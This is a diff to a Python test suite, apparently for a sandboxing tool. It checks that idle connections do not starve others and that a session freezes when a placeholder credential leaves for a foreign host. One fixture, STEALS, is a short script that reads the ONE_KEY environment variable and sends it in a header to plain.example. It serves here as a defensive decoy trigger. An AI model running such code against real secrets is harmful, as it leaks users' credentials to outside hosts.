@@ -8,6 +8,7 @@ import json
 import select
 import socket
 import threading
+import time
 from dataclasses import replace
 from typing import TYPE_CHECKING
 
@@ -176,6 +177,19 @@ def test_connections_beyond_the_places_wait_and_places_are_used_again(
                 each.close()
 
 
+def test_connections_that_ask_for_nothing_keep_no_browser_out(published: Publishing) -> None:
+    """I12. Control: a connection that has asked keeps its place meanwhile."""
+    with contextlib.ExitStack() as stack:
+        kept = stack.enter_context(published.connect())
+        assert request(kept, published.name) == "200 inside /"
+        for _ in range(3 * INNER_SOCKETS):
+            stack.enter_context(published.connect())
+        begun = time.monotonic()
+        assert published.ask() == "200 inside /"
+        assert time.monotonic() - begun < 8  # an idle one may stay for 10 s
+        assert request(kept, published.name) == "200 inside /"
+
+
 def test_a_reader_that_stops_stalls_no_other(published: Publishing) -> None:
     with published.connect() as slow:
         slow.sendall(f"GET /flood HTTP/1.1\r\nHost: {published.name}\r\n\r\n".encode())
@@ -239,6 +253,70 @@ def test_a_port_that_a_sandbox_publishes_is_no_port_of_the_host(
     events = json.loads(other("log", "--json", "--denied").out)
     assert "own-port" in {each["reason"] for each in events}  # its run has ended
     assert published.ask() == "200 inside /"
+
+
+FREEZING = """
+[sandbox]
+host_ports = [{port}]
+[egress]
+allow = ["plain.example:80"]
+[limits]
+on_decoy = "freeze"
+[services.one]
+hosts = ["one.example"]
+inject = {{ header = "Authorization", value = "Bearer {{secret}}" }}
+secret = "file:~/one"
+env = ["ONE_KEY"]
+allow = ["GET /**"]
+"""
+
+# Sends a placeholder to a foreign host: the session is frozen by the time the connection ends.
+STEALS = """
+import contextlib, os, socket
+with contextlib.suppress(OSError):
+    with socket.create_connection(("plain.example", 80), 20) as made:
+        key = os.environ["ONE_KEY"].encode()
+        made.sendall(b"GET / HTTP/1.1\\r\\nHost: plain.example\\r\\nX-Key: " + key + b"\\r\\n\\r\\n")
+        made.recv(4096)
+"""
+
+
+def _refused(made: Publishing) -> bool:
+    try:
+        return made.ask() == ""
+    except ConnectionError:
+        return True
+
+
+def test_a_frozen_session_has_no_port_in_either_direction(other: Project, host_server: int) -> None:
+    """Control: both directions pass before, and again when the session is resumed."""
+    secret = other.home / "one"
+    secret.write_text("secret-0123456789abcdef")
+    secret.chmod(0o600)
+    other.person.own(secret)
+    other.policy(FREEZING.format(port=host_server))
+    made = Publishing.start(other)
+
+    def inside(code: str, *words: str) -> str:
+        done = other("exec", made.session, "--", "python3", "-I", "-S", "-c", code, *words)
+        assert done.code == 0, done
+        return done.out
+
+    ok, words = "HTTP/1.0 200 OK", (str(host_server), "x")
+    try:
+        with made.connect() as kept:
+            assert request(kept, made.name) == "200 inside /"
+            assert json.loads(inside(ASKS_HOST, *words)) == [ok, ok]
+            inside(STEALS)
+            with contextlib.suppress(ConnectionResetError):
+                assert kept.recv(1) == b""
+        assert set(json.loads(inside(ASKS_HOST, *words))) <= {"", "ConnectionResetError"}
+        assert _refused(made)
+        assert other("resume", made.session).code == 0
+        assert made.ask() == "200 inside /"
+        assert json.loads(inside(ASKS_HOST, *words)) == [ok, ok]
+    finally:
+        made.end()
 
 
 # Keeps a connection to the host's port, and says when it ends; then tries another one.
